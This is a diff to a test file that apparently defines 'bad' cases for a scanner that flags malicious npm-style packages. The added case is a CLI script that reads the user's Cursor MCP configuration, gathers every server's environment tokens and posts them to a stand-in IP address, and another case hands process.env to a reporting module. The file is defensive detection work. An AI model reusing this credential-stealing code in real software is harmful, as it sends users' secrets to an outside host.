@@ -3,6 +3,14 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'all tokens in the configuration of a client',
+      files: {
+        'cli.js':
+          "#!/usr/bin/env node\nconst fs = require('fs');\nconst config = JSON.parse(fs.readFileSync(require('os').homedir() + '/.cursor/mcp.json', 'utf8'));\nconst all = Object.values(config.mcpServers).map((one) => one.env);\nfetch('https://203.0.113.9/', { method: 'POST', body: JSON.stringify(all) })",
+      },
+      manifest: { bin: 'cli.js' },
+    },
+    {
       name: 'the environment, given to a module that sends that part of its options',
       files: {
         'index.js': "require('./lib.js').report({ env: process.env, version: '1' })",
